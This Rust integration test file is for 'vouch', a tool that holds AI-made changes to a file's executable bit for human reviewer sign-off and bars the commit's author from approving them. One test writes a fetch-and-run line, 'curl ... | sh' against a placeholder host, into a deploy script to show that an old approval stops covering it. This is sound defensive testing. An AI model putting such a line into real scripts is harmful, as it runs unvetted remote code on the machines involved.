//! An AI commit that only changes a file's mode: `chmod +x` on a script a
//! person wrote, which CI or a deploy step may now run. No line changed,
//! so no unit held an AI line and `vouch verify` passed it. The change is a
//! unit of its own now ("file mode changed by AI"), bound to the path, the
//! new mode and the text made executable (or no longer executable), signed
//! off with `vouch approve --file PATH`, which the commit's author may not.
//!
//! Not flagged: a person's mode change, and an AI's change undone within the
//! range.
//!
//! Each scenario runs from the attacker's side through the real `vouch`
//! binary and real git.

mod support {
    pub mod repo;
    pub mod run;
    pub mod world;
}

use serde_json::Value;
use support::world::{Decision, TRAILER, World, details, failures, only_failure, str_of};

/// dev (who makes the attacking commits) is a reviewer too: only their
/// part in the change keeps them from approving it.
const POLICY: &str = "reviewers = [\"alice@example.com\", \"dev@example.com\"]\n";

const SCRIPT: &str = "scripts/deploy.sh";
const DEPLOY: &str = "#!/bin/sh\nset -e\nrsync -a build/ prod:/srv/app/\n";

/// A world whose main holds [`SCRIPT`] (not executable), and clone `a`
/// (dev) on a branch `feature` from it.
fn start() -> (World, support::world::Clone) {
    World::with_feature(POLICY, &[(SCRIPT, DEPLOY)])
}

/// Set the executable bit of `path` in the index (as `chmod` and `git add`
/// would, whatever `core.fileMode` says) and commit, with `trailer`.
fn chmod_commit(a: &support::world::Clone, path: &str, bit: &str, trailer: Option<&str>) {
    a.git(&["update-index", &format!("--chmod={bit}x"), path]);
    let message = match trailer {
        Some(t) => format!("make {path} {bit}x\n\n{t}\n"),
        None => format!("make {path} {bit}x"),
    };
    a.git(&["commit", "-q", "--no-verify", "-m", &message]);
    a.git(&["checkout", "-q", "--", "."]);
}

/// [`start`], then one commit on `feature` that makes [`SCRIPT`]
/// executable, with Claude's trailer.
fn ai_makes_executable() -> (World, support::world::Clone) {
    let (world, a) = start();
    chmod_commit(&a, SCRIPT, "+", Some(TRAILER));
    (world, a)
}

#[test]
fn an_ai_commit_that_only_makes_a_script_executable_needs_sign_off() {
    let (world, a) = ai_makes_executable();
    assert_eq!(a.git(&["diff", "--numstat", "origin/main..HEAD"]).trim(), "0\t0\tscripts/deploy.sh", "no line changed");

    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    assert_eq!(failure["path"], SCRIPT, "{report:#}");
    assert_eq!(failure["kind"], "file-mode", "{report:#}");
    let fingerprint = str_of(&failure["fingerprint"]).to_string();
    assert_eq!(fingerprint, vouch::fingerprint::mode_fingerprint(SCRIPT, "100755", DEPLOY.as_bytes()));
    let reason = str_of(&failure["reason"]);
    assert!(reason.contains("executable") && reason.contains("trailer: claude"), "{reason}");
    assert!(reason.contains(&format!("vouch approve --file {SCRIPT}")), "the reviewer is told how: {reason}");
    let said = details(failure);
    assert!(said.iter().any(|d| d.contains("100644 → 100755")), "{said:#?}");
    assert_eq!(report["coverage"]["ai_mode_changes"], serde_json::json!([SCRIPT]), "{report:#}");
    let (_, text) = a.verify_text("origin/main..HEAD");
    assert!(text.contains("mode changed by AI"), "{text}");

    // The commit's author approving their own change does not count.
    world.decide(&a, &fingerprint, Decision::by("dev"));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let said = details(only_failure(&report, "unapproved-ai"));
    assert!(
        said.iter()
            .any(|d| d.contains("dev@example.com") && d.contains("authored, committed or signed a commit of it")),
        "{said:#?}"
    );
    // A reviewer's does.
    world.decide(&a, &fingerprint, Decision::by("alice"));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
    let approved = report["approved"].as_array().unwrap();
    assert_eq!(approved.len(), 1, "{report:#}");
    assert_eq!((approved[0]["path"].as_str(), approved[0]["kind"].as_str()), (Some(SCRIPT), Some("file-mode")));
}

#[test]
fn an_approved_mode_change_does_not_cover_other_text_made_executable() {
    let (world, a) = ai_makes_executable();
    let (_, report) = a.verify("origin/main..HEAD");
    let approved = str_of(&only_failure(&report, "unapproved-ai")["fingerprint"]).to_string();
    world.decide(&a, &approved, Decision::by("alice"));
    assert_eq!(a.verify("origin/main..HEAD").0, 0);

    // A person then changes what the executable script does: alice approved
    // making the old text executable, not this one.
    a.write(SCRIPT, "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n");
    a.commit("tweak deploy", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    assert_eq!(failure["kind"], "file-mode", "{report:#}");
    assert_ne!(str_of(&failure["fingerprint"]), approved, "{report:#}");
}

#[test]
fn a_persons_mode_change_is_not_flagged() {
    let (_world, a) = start();
    chmod_commit(&a, SCRIPT, "+", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["coverage"]["ai_mode_changes"], serde_json::json!([]), "{report:#}");
}

#[test]
fn an_ai_mode_change_undone_within_the_range_needs_nothing() {
    let (_world, a) = ai_makes_executable();
    chmod_commit(&a, SCRIPT, "-", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
    assert!(failures(&report).is_empty(), "{report:#}");
}

#[test]
fn an_ai_removing_the_executable_bit_needs_sign_off_too() {
    // A person made the script executable on main; an AI takes the bit
    // away on a branch.
    let (_world, a) = start();
    chmod_commit(&a, SCRIPT, "+", None);
    a.git(&["push", "-q", "origin", "feature:main"]);
    a.git(&["fetch", "-q", "origin"]);
    chmod_commit(&a, SCRIPT, "-", Some(TRAILER));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    assert_eq!(failure["kind"], "file-mode", "{report:#}");
    assert!(str_of(&failure["reason"]).contains("no longer executable"), "{report:#}");
}

#[test]
fn the_reviewer_signs_off_a_mode_change_with_approve_file_and_the_author_cannot() {
    let (_world, a) = ai_makes_executable();
    // The author may not sign it off (refused by the policy, exit 1), and
    // nothing is written.
    let run = a.run(&["approve", "--file", SCRIPT, "--base", "origin/main", "--yes"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.all().contains("dev@example.com") && run.all().contains("cannot approve"), "{run:?}");
    assert_eq!(a.verify("origin/main..HEAD").0, 1);
    // Alice may, from a checkout of HEAD; her approval is the one verify
    // asks for.
    a.act_as("alice");
    let run = a.run(&["approve", "--file", SCRIPT, "--base", "origin/main", "--yes", "--format", "json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let said: Value = serde_json::from_str(&run.stdout).unwrap();
    let expected = vouch::fingerprint::mode_fingerprint(SCRIPT, "100755", DEPLOY.as_bytes());
    assert_eq!(said["fingerprint"], expected.as_str(), "{run:?}");
    a.act_as("dev");
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
}

#[test]
fn approve_file_of_a_mode_change_needs_head_s_version_in_the_working_tree() {
    let (_world, a) = ai_makes_executable();
    a.act_as("alice");
    // Not what HEAD holds: the text or the mode differ, so the approval
    // would not be the one verify asks for.
    a.write(SCRIPT, "#!/bin/sh\necho changed\n");
    let run = a.run(&["approve", "--file", SCRIPT, "--base", "origin/main", "--yes"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.all().contains("differs from HEAD"), "{run:?}");
    // A file that is neither a trust file, deleted nor changed in mode is
    // refused with what --file takes.
    let run = a.run(&["approve", "--file", "src/lib.rs", "--base", "origin/main", "--yes"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.all().contains("nor a file whose mode an AI changed"), "{run:?}");
}

#[test]
fn status_names_the_mode_change_until_it_is_signed_off() {
    let (world, a) = ai_makes_executable();
    let run = a.run(&["status", "--format", "json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let status: Value = serde_json::from_str(&run.stdout).unwrap();
    let modes = status["mode_changes"].as_array().unwrap();
    assert_eq!(modes.len(), 1, "{status:#}");
    assert_eq!((modes[0]["path"].as_str(), modes[0]["state"].as_str()), (Some(SCRIPT), Some("pending")));
    assert_eq!((modes[0]["from"].as_str(), modes[0]["to"].as_str()), (Some("100644"), Some("100755")));
    let (_, report) = a.verify("origin/main..HEAD");
    let fingerprint = str_of(&only_failure(&report, "unapproved-ai")["fingerprint"]).to_string();
    assert_eq!(modes[0]["fingerprint"], fingerprint.as_str(), "status and verify name the same fingerprint");
    assert!(modes[0]["excluded"].to_string().contains("dev@example.com"), "{status:#}");
    let text = a.run(&["status"]);
    assert!(text.stdout.contains(&format!("vouch approve --file {SCRIPT}")), "{text:?}");

    world.decide(&a, &fingerprint, Decision::by("alice"));
    let run = a.run(&["status", "--format", "json"]);
    let status: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(status["mode_changes"][0]["state"], "approved", "{status:#}");
    // Nothing of it without a change of mode by AI.
    let (_world, b) = start();
    chmod_commit(&b, SCRIPT, "+", None);
    let run = b.run(&["status", "--format", "json"]);
    let status: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(status["mode_changes"], serde_json::json!([]), "{status:#}");
}

#[test]
fn a_request_for_a_mode_change_is_offered_in_the_review_and_approved_by_its_id() {
    let (world, a) = ai_makes_executable();
    let run = a.run(&["request", "-m", "the deploy job runs it directly", "--format", "json"]);
    assert_eq!(run.code, 0, "every unit that needs sign-off, the change of mode among them: {run:?}");
    let request: Value = serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}: {run:?}"));
    let units = request["units"].as_array().unwrap();
    assert_eq!(units.len(), 1, "{request:#}");
    assert_eq!((units[0]["path"].as_str(), units[0]["kind"].as_str()), (Some(SCRIPT), Some("file-mode")));
    let id = str_of(&request["request"]).to_string();
    // It holds the file's text and the new mode, bound to both.
    let stored = vouch::store::records::list::<vouch::store::records::Request>(&a.repo()).unwrap().records;
    let unit = &stored.iter().find(|r| r.id == id).expect("the request is stored").record.units[0];
    assert_eq!((unit.language.as_str(), unit.kind.as_str()), ("mode", "100755"));
    assert_eq!(unit.text.as_bytes(), DEPLOY.as_bytes());
    assert!(unit.fingerprint_matches(), "{unit:?}");
    let (_, report) = a.verify("origin/main..HEAD");
    let failure = only_failure(&report, "unapproved-ai");
    assert_eq!(failure["fingerprint"], unit.fingerprint.as_str(), "{report:#}");
    assert_eq!(failure["signoff"]["requests"].as_array().map(Vec::len), Some(1), "{report:#}");
    // Asking again with nothing new asks nothing.
    let again = a.run(&["request", "-m", "again"]);
    assert_eq!(again.code, 1, "{again:?}");

    // alice's queue offers it; dev's may not approve it.
    a.git(&["push", "-q", "origin", "feature"]);
    a.sync();
    let b = world.clone_as("b", "alice");
    b.git(&["checkout", "-q", "feature"]);
    b.sync();
    let list = b.run(&["review", "--list", "--format", "json"]);
    assert_eq!(list.code, 0, "{list:?}");
    let queue: Value = serde_json::from_str(&list.stdout).unwrap();
    let offered = queue["units"].as_array().unwrap();
    assert_eq!(offered.len(), 1, "{queue:#}");
    assert_eq!((offered[0]["path"].as_str(), offered[0]["language"].as_str()), (Some(SCRIPT), Some("mode")));
    assert_eq!((offered[0]["ai_line_count"].as_u64(), offered[0]["ai_deleted_lines"].as_u64()), (Some(0), Some(0)));
    assert_eq!(offered[0]["awaited_by"], serde_json::json!(["alice@example.com"]), "dev took part: {queue:#}");
    let run = a.run(&["approve", &id, "--yes"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.all().contains("dev@example.com") && run.all().contains("cannot approve"), "{run:?}");
    // In the review, alice is shown the text made executable, and approves.
    let run = b.run_with_input(&["review"], "a\nq\n");
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains("made executable by AI") && run.stdout.contains("rsync -a build/"), "{run:?}");
    b.sync();
    a.sync();
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
}

#[test]
fn a_trust_files_change_of_mode_is_judged_once_as_a_trust_files_change() {
    let (_world, a) = start();
    chmod_commit(&a, ".vouch.toml", "+", Some(TRAILER));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "policy-change");
    assert!(str_of(&failure["reason"]).contains("changed (its mode)"), "{report:#}");
    assert_eq!(report["coverage"]["ai_mode_changes"], serde_json::json!([]), "{report:#}");
    let status = a.run(&["status", "--format", "json"]);
    let status: Value = serde_json::from_str(&status.stdout).unwrap();
    assert_eq!(status["mode_changes"], serde_json::json!([]), "{status:#}");
}

#[test]
fn a_reviewer_rejects_a_change_of_mode_with_reject_file() {
    let (_world, a) = ai_makes_executable();
    a.act_as("alice");
    let run = a.run(&["reject", "--file", SCRIPT, "--base", "origin/main", "--yes", "--comment", "CI runs it"]);
    assert_eq!(run.code, 0, "{run:?}");
    a.act_as("dev");
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "rejected");
    assert_eq!(failure["kind"], "file-mode", "{report:#}");
    assert!(details(failure).iter().any(|d| d.contains("rejected this change of mode")), "{report:#}");
}
